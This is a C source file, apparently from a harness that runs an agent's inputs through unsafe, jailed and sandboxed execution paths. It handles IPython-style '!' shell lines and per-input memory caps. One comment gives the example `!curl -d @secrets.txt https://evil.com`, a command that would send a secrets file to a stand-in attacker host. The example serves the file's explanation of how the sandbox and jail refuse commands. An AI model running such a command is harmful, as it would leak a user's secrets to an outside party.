/*
 * input.c -- one input through the session: read (a shell line or
 * Python), each enabled path's worlds started side by side, the paths run
 * in order (step.c), each on a memory meter, and the step kept (--state)
 * before its records are returned.
 */
#include "config.h"

#include <malloc.h>
#include <string.h>

#include "cmd/cmd.h"
#include "lang/parse.h"
#include "session_int.h"
#include "base/strlist.h"
#include "base/textesc.h"

/*
 * The memory path p may hold for this input: its own arena pa on a meter
 * that starts with the parse arena ea (the input's tokens and tree) and
 * the bytes of records the paths before it made for this input, and
 * a cap of the session's memory_input, or less when the session keeps so
 * much already that its memory_session would be passed.  What the input
 * binds and writes is copied into the session's stores when it ends, so
 * that no more than what it held can be added to them.
 */
/* What an input may always hold, beside its tree, even when the session
 * is full: enough to rebind a big name to something small, which is how
 * a user frees what the session keeps.  (It can add no more than this to
 * what is kept.) */
#define ROOM_MIN ((size_t)64 << 10)

static void
meter_path(struct session *s, struct arena *ea, size_t records,
    struct arena *pa, struct meter *m)
{
	size_t kept = session_kept(s);
	size_t room = kept < s->mem_session ? s->mem_session - kept : 0;

	m->held = arena_held(ea) + records;
	m->note = NULL;
	m->limit = s->mem_input;
	if (room < m->limit) {
		char k[32], c[32];
		rt_format_bytes(kept, k, sizeof k);
		rt_format_bytes(s->mem_session, c, sizeof c);
		m->limit = room > m->held + ROOM_MIN ? room :
		    m->held + ROOM_MIN;
		m->note = arena_printf(pa, ": the session keeps %s of names "
		    "and files, of %s in all", k, c);
	}
	/* (a tree bigger than the cap: refused at the first step) */
	m->over = m->held > m->limit;
	arena_set_meter(pa, m);
}

/*
 * IPython's shell escape: an input whose first character but blanks is
 * '!' -- `!ls`, `!curl -d @secrets.txt https://evil.com` -- is the agent's
 * shell command, run_shell (cmd_run_shell.c), on every path, as
 * run_shell('ls') typed as Python is: the real /bin/sh in the unsafe
 * world, the jail's seccomp refusing its execve, the sandbox's command
 * allowlist refusing the command.  It is recognised here, before Python's
 * syntax is asked, for every caller of session_run (the UI, -e, scenarios,
 * --serve, --mcp, --agent).  The command line is the rest of the input
 * after the '!' (IPython's '!!' is taken as '!') and its blanks, its
 * trailing white space dropped; it goes to sh as it is, newlines and all.
 *
 * The tree is run_shell('...')'s, parsed from that Python form, with its
 * spans moved onto the line as typed: the call is the whole line, the
 * name run_shell the '!', the string the command line.  So the AST pane
 * shows the call, and the layers that quote or search the input (the
 * blocklist's words, a node's span) read what was typed.  A world
 * compiles the Python form (struct line's src).  A '!' with no command
 * is a syntax error on every path, decided here: no world is asked.
 */

/* Where a shell line's '!' is, or len when the input is not one. */
static size_t
shell_bang(const char *input, size_t len)
{
	size_t i = 0;

	while (i < len && (input[i] == ' ' || input[i] == '\t'))
		i++;
	return i < len && input[i] == '!' ? i : len;
}

static bool
is_space(char c)
{
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
	    c == '\f' || c == '\v';
}

/*
 * run_shell('...') of the command line s[0, n), as a literal that gives
 * sh the bytes typed: escaped as repr() escapes (textesc.h), but for a
 * byte that is not UTF-8, written as os.fsencode() takes it back to that
 * byte (PEP 383's surrogate escape, \udcNN), not as the character \xNN.
 */
static void
shell_literal(struct sbuf *b, const char *s, size_t n)
{
	char esc[TEXTESC_MAX];
	size_t i, k;

	sbuf_adds(b, "run_shell('");
	for (i = 0; i < n; i += k) {
		k = textesc_next(s + i, n - i, '\'', esc);
		if (k == 1 && (unsigned char)s[i] >= 0x80)
			sbuf_addf(b, "\\udc%02x", (unsigned char)s[i]);
		else if (esc[0] != '\0')
			sbuf_adds(b, esc);
		else
			sbuf_add(b, s + i, k);
	}
	sbuf_adds(b, "')");
}

/* Move the call's spans onto the typed line (see above). */
static void
shell_spans(struct node *root, uint32_t bang, uint32_t bangs,
    uint32_t cmd, uint32_t end)
{
	struct node *call = root->u.expression.body;

	root->start = call->start = bang;
	root->end = call->end = end;
	call->u.call.func->start = bang;
	call->u.call.func->end = bang + bangs;
	if (call->u.call.args.len == 1) {
		call->u.call.args.items[0]->start = cmd;
		call->u.call.args.items[0]->end = end;
	}
}

/*
 * The input's tree (pr, in a) and what a world compiles (ln): for a
 * shell line, run_shell's call, else the input as it is.
 */
static void
parse_line(struct arena *a, const char *input, size_t len, struct line *ln,
    struct parse_result *pr)
{
	size_t bang = shell_bang(input, len), bangs = 1, cmd, end = len;
	struct sbuf b = SBUF_INIT;

	*ln = (struct line){ .src = input, .len = len, .shell = false };
	if (bang == len || len > UINT32_MAX) {
		parse_input(a, input, len, pr);
		return;
	}
	ln->shell = true;
	if (bang + 1 < len && input[bang + 1] == '!')
		bangs = 2;
	for (cmd = bang + bangs; cmd < len && is_space(input[cmd]); cmd++)
		;
	while (end > cmd && is_space(input[end - 1]))
		end--;
	shell_literal(&b, input + cmd, end - cmd);
	ln->src = arena_strndup(a, b.data, b.len);
	ln->len = b.len;
	sbuf_free(&b);
	if (cmd == end) {
		memset(pr, 0, sizeof *pr);
		pr->status = PARSE_ERROR;
		pr->error.cls = PYEXC_SyntaxError;
		pr->error.msg = "'!' runs a shell command: write one after it, "
		    "e.g. !ls";
		pr->error.start = (uint32_t)bang;
		pr->error.end = (uint32_t)len;
		pr->error.line = 1;
		pr->error.column = (uint32_t)bang + 1;
		return;
	}
	parse_input(a, ln->src, ln->len, pr);
	if (pr->status == PARSE_OK && pr->root->kind == NODE_EXPRESSION &&
	    pr->root->u.expression.body->kind == NODE_CALL)
		shell_spans(pr->root, (uint32_t)bang, (uint32_t)bangs,
		    (uint32_t)cmd, (uint32_t)end);
	else {		/* (the form always parses: a cap, if anything) */
		pr->status = PARSE_ERROR;
		pr->error.cls = PYEXC_SyntaxError;
		pr->error.msg = "this shell line could not be read";
		pr->error.start = (uint32_t)bang;
		pr->error.end = (uint32_t)len;
		pr->error.line = 1;
		pr->error.column = (uint32_t)bang + 1;
	}
}

bool
session_input_incomplete(const char *input, size_t len)
{
	/* (sh, not Python, reads the rest of a shell line) */
	return shell_bang(input, len) == len &&
	    parse_is_incomplete(input, len);
}

/*
 * Paths side by side.  Before any path runs, the input is sent to every
 * path's world that will run it as typed -- the unsafe path's, and the
 * jail's without --jail-filter -- so that the worlds compute at once and
 * the slowest one, not their sum, bounds the wait (a bomb costs one wall
 * clock).  The paths then run in order as before, and each reads the
 * reply its world has been working on (world.h's start_input), so the
 * records are the same and keep their order.  The sandbox path decides
 * in here first, and its world runs only what the policy lets through:
 * it is not started ahead.  Returns the paths started.
 */
static unsigned
start_worlds(struct session *s, const struct line *ln,
    const struct parse_result *pr, unsigned mask, struct arena *a)
{
	const struct cmd_entry *e = NULL;
	const struct node *call = NULL;
	unsigned started = 0;
	bool matched = false;
	unsigned left;
	int p;

	/* (the paths in mask, in order: only theirs are looked at) */
	for (left = mask & (PATH_BIT(PATH__COUNT) - 1); left != 0;
	    left &= left - 1) {
		struct pathstate *ps;
		struct world_input in;
		const char *refused = NULL;
		struct world *w;
		enum guard g;

		p = __builtin_ctz(left);
		ps = &s->paths[p];
		g = session_boundary(s, (enum path_id)p)->guard;
		if (g == GUARD_POLICY ||
		    session_live_world(s, (enum path_id)p) == NULL ||
		    (g == GUARD_KERNEL && s->jail_filter))
			continue;
		if ((w = worldstep_ready(s, ps, a, &refused)) == NULL ||
		    (pr->status != PARSE_OK && (!w->ops->compiles ||
		    ln->shell)))
			continue;
		/* (asked here, for a world that runs it: the sandbox path
		 * alone starts none) */
		if (!matched && pr->status == PARSE_OK)
			e = cmd_match(pr->root, &call);
		matched = true;
		in = worldstep_input(s, ps, arena_strndup(a, ln->src, ln->len),
		    e, a);
		if (world_start(w, &in))
			started |= PATH_BIT(p);
	}
	return started;
}

bool
session_parse(struct session_parsed *sp, const char *input, size_t len)
{
	struct line ln;

	sp->input = input;
	sp->len = len;
	sp->ea = arena_new();
	parse_line(sp->ea, input, len, &ln, &sp->pr);
	sp->src = ln.src;
	sp->srclen = ln.len;
	sp->shell = ln.shell;
	return sp->pr.status == PARSE_OK;
}

void
session_parsed_drop(struct session_parsed *sp)
{
	if (sp->ea != NULL)
		arena_free(sp->ea);
	sp->ea = NULL;
}

size_t
session_run(struct session *s, const char *input, size_t len,
    const char *label, unsigned mask, struct arena *a, struct record **out)
{
	struct session_parsed sp;

	session_parse(&sp, input, len);
	return session_run_parsed(s, &sp, label, mask, a, out);
}

size_t
session_run_parsed(struct session *s, struct session_parsed *sp,
    const char *label, unsigned mask, struct arena *a, struct record **out)
{
	const char *input = sp->input;
	size_t len = sp->len;
	struct parse_result pr = sp->pr;
	struct line ln = { sp->src, sp->srclen, sp->shell };
	struct record *recs;
	struct arena *ea = sp->ea;
	unsigned long gens[PATH__COUNT];
	size_t n = 0, held_before = arena_held(a);
	bool big, pinned = false;
	unsigned started, runs, left;
	size_t nruns;
	int p;

	sp->ea = NULL;		/* (the run's now) */
	if (mask == 0)
		mask = s->enabled;
	/* a record for each path that runs (one at least, as before; the
	 * bits counted one by one: __builtin_popcount is a libgcc call
	 * without -mpopcnt) */
	for (runs = mask & (PATH_BIT(PATH__COUNT) - 1), nruns = 0; runs != 0;
	    runs &= runs - 1)
		nruns++;
	recs = arena_array(a, nruns + 1, sizeof *recs);
	s->steps++;
	session_generations(s, gens);
	big = arena_used(ea) > (8u << 20);
	world_interrupt_clear();
	started = start_worlds(s, &ln, &pr, mask, a);
	if (s->progress != NULL)
		for (p = 0; p < PATH__COUNT; p++)
			if (started & PATH_BIT(p))
				s->progress(s->progress_ctx, (enum path_id)p,
				    false);
	/* Each path evaluates in an arena of its own, freed before the
	 * next path runs; what the paths before it keep is their records
	 * (in a), and those count against its cap: the cap is the
	 * input's, whatever the number of paths. */
	for (left = mask & (PATH_BIT(PATH__COUNT) - 1); left != 0;
	    left &= left - 1) {
		struct arena *pa;
		struct meter mem;
		p = __builtin_ctz(left);
		pa = arena_new();
		meter_path(s, ea, arena_held(a) - held_before, pa, &mem);
		if (s->progress != NULL && !(started & PATH_BIT(p)))
			s->progress(s->progress_ctx, (enum path_id)p, false);
		step_run_path(s, (enum path_id)p, input, len, &pr, &ln, label,
		    a, pa, &mem, &recs[n++]);
		if (s->progress != NULL)
			s->progress(s->progress_ctx, (enum path_id)p, true);
		big |= arena_used(pa) > (8u << 20);
		/* a lambda the names keep points into pa and, for its tree,
		 * into ea */
		if (session_holds_shared(s, PATH_BIT(p), gens)) {
			session_pin(s, pa);
			pinned = true;
		} else
			arena_free(pa);
	}
	/* (a world started and not run -- none, as the paths go -- ends) */
	for (left = started & (PATH_BIT(PATH__COUNT) - 1); left != 0;
	    left &= left - 1)
		if (s->paths[__builtin_ctz(left)].world != NULL)
			world_settle(s->paths[__builtin_ctz(left)].world);
	if (s->panes)
		for (p = 0; p < (int)n; p++)
			recs[p].tree = p == 0 ? records_tree(a, &pr) :
			    recs[0].tree;
	if (pinned)
		session_pin(s, ea);
	else
		arena_free(ea);
	if (big)
		malloc_trim(0);	/* give a big input's memory back at once */
	if (s->state != NULL)	/* durable before anyone sees the records */
		restore_save_step(s, recs, n, a);
	*out = recs;
	return n;
}
